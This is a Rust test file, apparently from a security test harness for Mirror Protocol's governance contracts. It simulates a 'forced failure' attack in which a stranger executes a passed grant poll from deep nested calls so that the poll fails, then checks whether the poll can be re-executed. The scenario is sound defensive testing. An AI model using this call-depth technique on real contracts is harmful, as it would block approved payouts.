//! A passed poll carried out by a stranger in such a way that it fails.

use anyhow::Context;
use cosmwasm_std::{coin, to_json_binary, Addr, Empty, Uint128};
use mirror_protocol::gov::{
    Cw20HookMsg, ExecuteMsg, PollExecuteMsg, PollResponse, PollStatus, QueryMsg, VoteOption,
};
use mirror_testing::{World, BASE};

use super::deep_calls::{self, Message};
use crate::amounts::coins;
use crate::attacks::attack::Attack;
use crate::attacks::fixtures::{self, DAY, MILLION, UNIT};
use crate::attacks::report::{Attempt, Findings};
use crate::attacks::transaction::Transaction;
use crate::attacks::trial::Trial;

pub(super) const ATTACK: Attack = Attack {
    name: "forced failure",
    story: "Open in Mirror v2: who carried out a passed poll from close to the chain's limit of \
            nested calls made its action fail, and a failed poll was final.",
    run,
};

/// The coins that the poll grants to carol.
const GRANT: u128 = 1_000 * UNIT;
/// The deposit of a poll.
const DEPOSIT: u128 = 1_000 * UNIT;
/// The number of the poll.
const POLL: u64 = 1;

fn run() -> anyhow::Result<Findings> {
    Ok(Findings {
        attempts: vec![attempt()?],
        exposures: vec![],
    })
}

fn attempt() -> anyhow::Result<Attempt> {
    let (mut trial, caller) = with_a_passed_poll()?;
    let gov = trial.world.at.gov.clone();
    let before = trial
        .world
        .base_balance(&trial.world.chain.account("carol"));

    let deep = Message::CarryOut {
        gov: gov.to_string(),
        poll_id: POLL,
    };
    trial.does(Transaction::new().calls(&caller, &deep))?;
    let forced = status(&trial.world);
    let again = ExecuteMsg::ExecutePoll { poll_id: POLL };
    let answer = trial.world.alice().tries(&gov, &again, &[]);
    if let Err(refusal) = &answer {
        trial.refused_to_others("T-69", refusal);
    }
    let granted = trial
        .world
        .base_balance(&trial.world.chain.account("carol"))
        - before;
    trial.adds_loss(Uint128::new(GRANT).saturating_sub(granted));
    if forced == PollStatus::Failed && status(&trial.world) == PollStatus::Executed {
        let seen = format!(
            "the poll was {forced}; alice carried it out again in the same block, and the grant \
             of {} coins was paid",
            coins(granted)
        );
        trial.notes("T-69", seen);
    }
    trial.tries("T-69", Transaction::new().calls(&caller, &deep))?;
    trial.ends(
        "carried out a passed grant from so deep a call that it failed, and tried the same after \
         it had been paid",
    )
}

/// Alice has passed a poll for a grant to carol, and its delay is over; also returns the contract
/// that pays the grant and carries the poll out.
fn with_a_passed_poll() -> anyhow::Result<(Trial, Addr)> {
    let mut world = World::new();
    let deployer = world.chain.account("deployer");
    let caller = world.chain.create(deep_calls::code(), &deployer, &Empty {});
    world.chain.fund(&caller, &[coin(GRANT, BASE)]);
    fixtures::stakes(&mut world, "alice", MILLION)?;
    proposes(&mut world, &caller)?;
    let gov = world.at.gov.clone();
    let vote = ExecuteMsg::CastVote {
        poll_id: POLL,
        vote: VoteOption::Yes,
        amount: (MILLION / 2).into(),
    };
    world.alice().tries(&gov, &vote, &[])?;
    world.chain.pass(7 * DAY);
    let end = ExecuteMsg::EndPoll { poll_id: POLL };
    world.alice().tries(&gov, &end, &[])?;
    world.chain.pass(DAY);
    let trial = Trial::new(world, &[("MIR", fixtures::price("0.5")?)])?;
    Ok((trial, caller))
}

/// Bob creates the poll.
fn proposes(world: &mut World, caller: &Addr) -> anyhow::Result<()> {
    let (bob, carol) = (world.chain.account("bob"), world.chain.account("carol"));
    world.gives_mir(&bob, DEPOSIT);
    let grant = Message::Spend {
        recipient: carol.into_string(),
        amount: Uint128::new(GRANT),
    };
    let hook = Cw20HookMsg::CreatePoll {
        title: "A grant to carol".to_string(),
        description: "For the mobile app".to_string(),
        link: None,
        execute_msg: Some(PollExecuteMsg {
            contract: caller.to_string(),
            msg: to_json_binary(&grant)?,
        }),
        admin_action: None,
    };
    let (mirror, gov) = (world.at.mirror_token.clone(), world.at.gov.clone());
    let answer = world.bob().tries_to_hand(&mirror, DEPOSIT, &gov, &hook);
    answer.context("bob creates the poll")?;
    Ok(())
}

fn status(world: &World) -> PollStatus {
    let question = QueryMsg::Poll { poll_id: POLL };
    let poll: PollResponse = world.asks(&world.at.gov, &question);
    poll.status
}
